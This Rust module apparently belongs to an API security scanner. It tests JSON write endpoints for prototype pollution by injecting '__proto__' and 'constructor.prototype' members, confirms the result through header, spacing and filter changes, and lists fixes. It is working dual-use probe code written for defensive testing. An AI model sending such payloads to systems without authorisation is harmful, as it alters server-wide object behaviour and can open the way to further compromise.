//! Members that every object of the server then has.
//!
//! In JavaScript a body that is merged into an object can reach the prototype of all objects by `__proto__`. What proves
//! it is another operation: a filter by a member that nothing has finds everything, or a header or a space appears that
//! a library reads from its settings. The member has a name of its own and does nothing; the settings are set back.

use std::sync::Arc;
use std::time::{SystemTime, UNIX_EPOCH};

use serde_json::{Value, json};

use crate::answer::{Reply, list_length};
use crate::attack::{Attack, Hole, Tried};
use crate::attacks::aim::{self, is_read_like};
use crate::census::Control;
use crate::door::{GuideDoor, ShutBy};
use crate::prober::{Prober, Stop};
use crate::request::{Draft, Slot};
use crate::surface::BodyFormat;
use report::Level;

pub(super) const ATTACK: Attack = Attack {
    name: "prototype-pollution",
    door: GuideDoor::Firewall,
    shut_by: ShutBy::Code,
    thought: "If I name the prototype in a body, do all objects of the server change?",
    level: Level::High,
    references: &["CWE-1321", "API8:2023"],
    mend_in_code: "Copy named members only; never merge a body into an object. Freeze Object.prototype at the start.",
    mend_at_gate: "The door injection refuses names that reach a prototype by its detector code; the door schema strips undeclared members.",
    run: |p, tried| Box::pin(run(p, tried)),
};

/// The most reads that show what a write did.
const MAX_READS: usize = 4;
/// The most objects of a body that are given a prototype.
const MAX_OBJECTS: usize = 6;
/// What the harmless member holds.
const VALUE: &str = "dwyes7";

/// How the prototype is reached.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Reach {
    Proto,
    Constructor,
}

async fn run(p: &Prober<'_>, tried: &mut Tried) -> Result<(), Stop> {
    let reads: Vec<Arc<Control>> = p
        .controls()
        .into_iter()
        .filter(|control| {
            let endpoint = p.surface.endpoint(control.endpoint);
            endpoint.is_read()
                && endpoint.graphql.is_none()
                && control.reply.value.as_ref().and_then(list_length).is_some_and(|length| length > 0)
        })
        .take(MAX_READS)
        .collect();
    for control in p.controls() {
        let endpoint = p.surface.endpoint(control.endpoint);
        let is_json = endpoint.body.as_ref().is_some_and(|body| matches!(body.format, BodyFormat::Json(_)));
        if is_read_like(endpoint) || endpoint.is_removal() || !is_json {
            continue;
        }
        if reads.is_empty() {
            tried.not_tried("no operation answers with a list that would show it");
            break;
        }
        for reach in [Reach::Proto, Reach::Constructor] {
            if tried.is_open(&endpoint.name()) {
                break;
            }
            let result = try_write(p, &control, reach, &reads, tried).await;
            tried.take(result)?;
        }
    }
    Ok(())
}

async fn try_write(
    p: &Prober<'_>,
    control: &Arc<Control>,
    reach: Reach,
    reads: &[Arc<Control>],
    tried: &mut Tried,
) -> Result<(), Stop> {
    let operation = p.surface.endpoint(control.endpoint).name();
    let Some(control) = p.renewed(control).await? else {
        tried.not_tried(format!("{operation}: the ordinary request is not served any more"));
        return Ok(());
    };
    let mut shown: Option<(Reply, String)> = None;
    for _ in 0..2 {
        let name = new_name();
        let mut before = Vec::new();
        for read in reads {
            before.push(look(p, read, &name, VALUE).await?);
        }
        let members = json!({ &name: VALUE, "exposedHeaders": [name.as_str()], "json spaces": 1 });
        let reply = aim::send(p, &with_prototype(&control.draft, reach, &members), control.who).await?;
        let mut sign = None;
        for (read, before) in reads.iter().zip(&before) {
            let after = look(p, read, &name, VALUE).await?;
            sign = sign.or(sign_of(p, read, before, &after, &name).await?);
            if sign.is_some() {
                break;
            }
        }
        let Some(sign) = sign else {
            tried.shut(&reply.seen);
            return Ok(());
        };
        let back = json!({ "exposedHeaders": "", "json spaces": "" });
        aim::send(p, &with_prototype(&control.draft, reach, &back), control.who).await?;
        shown.get_or_insert((reply, sign));
    }
    if let Some((reply, sign)) = shown {
        let way = match reach {
            Reach::Proto => "__proto__",
            Reach::Constructor => "constructor.prototype",
        };
        tried.open(Hole::shown(operation, format!("body {way}"), sign, &control.reply, &reply));
    }
    Ok(())
}

/// Reads a list with a filter by a member.
async fn look(p: &Prober<'_>, read: &Control, name: &str, value: &str) -> Result<Reply, Stop> {
    p.ask(&read.draft.with(&Slot::Query(name.to_owned()), value), read.who).await
}

/// What two answers to one read show, before and after.
async fn sign_of(
    p: &Prober<'_>,
    read: &Control,
    before: &Reply,
    after: &Reply,
    name: &str,
) -> Result<Option<String>, Stop> {
    let of = p.surface.endpoint(read.endpoint).name();
    let exposes = |reply: &Reply| {
        let exposed = reply.answer.header("access-control-expose-headers");
        exposed.is_some_and(|value| value.to_ascii_lowercase().contains(name))
    };
    if exposes(after) && !exposes(before) {
        return Ok(Some(format!("a header that {of} exposes is one that the prototype was given")));
    }
    let is_spaced = |reply: &Reply| {
        reply.value.is_some() && reply.text().starts_with(['{', '[']) && reply.text().get(1..2) == Some("\n")
    };
    if is_spaced(after) && !is_spaced(before) {
        return Ok(Some(format!("the JSON of {of} is spaced as the prototype was told")));
    }
    let length = |reply: &Reply| reply.value.as_ref().filter(|_| reply.is_served).and_then(list_length);
    let (Some(few), Some(many)) = (length(before), length(after)) else { return Ok(None) };
    if many <= few {
        return Ok(None);
    }
    // Everything has the member now, and not with another value. One object alone may have a prototype of its own.
    let whole = length(&p.ask(&read.draft, read.who).await?);
    let other = length(&look(p, read, name, "dwno7").await?);
    let is_all = whole == Some(many) && many >= few + 2 && other == Some(few);
    Ok(is_all.then(|| {
        format!("{of} finds everything by a member that the prototype was given, and found {few} before")
    }))
}

/// The request with these members for the prototype, in every object of its body.
fn with_prototype(draft: &Draft, reach: Reach, members: &Value) -> Draft {
    let mut draft = draft.clone();
    let body = draft.body.get_or_insert_with(|| json!({}));
    let mut left = MAX_OBJECTS;
    add(body, reach, members, &mut left);
    draft
}

fn add(value: &mut Value, reach: Reach, members: &Value, left: &mut usize) {
    let Value::Object(object) = value else { return };
    if *left == 0 {
        return;
    }
    *left -= 1;
    object.values_mut().for_each(|member| add(member, reach, members, left));
    match reach {
        Reach::Proto => object.insert("__proto__".into(), members.clone()),
        Reach::Constructor => object.insert("constructor".into(), json!({ "prototype": members })),
    };
}

/// A name that no object has.
fn new_name() -> String {
    let now = SystemTime::now().duration_since(UNIX_EPOCH).map_or(0, |time| time.as_nanos());
    format!("dwm{}", now % 1_000_000_000_000)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_object_of_a_body_is_given_a_prototype() {
        let draft = Draft { body: Some(json!({ "user": { "name": "n" } })), ..Draft::empty(0) };
        let members = json!({ "m": 1 });
        let proto = with_prototype(&draft, Reach::Proto, &members).body.unwrap();
        assert_eq!(proto, json!({ "user": { "name": "n", "__proto__": members }, "__proto__": members }));
        let other = with_prototype(&draft, Reach::Constructor, &members).body.unwrap();
        assert_eq!(other["user"]["constructor"]["prototype"], members);
    }
}
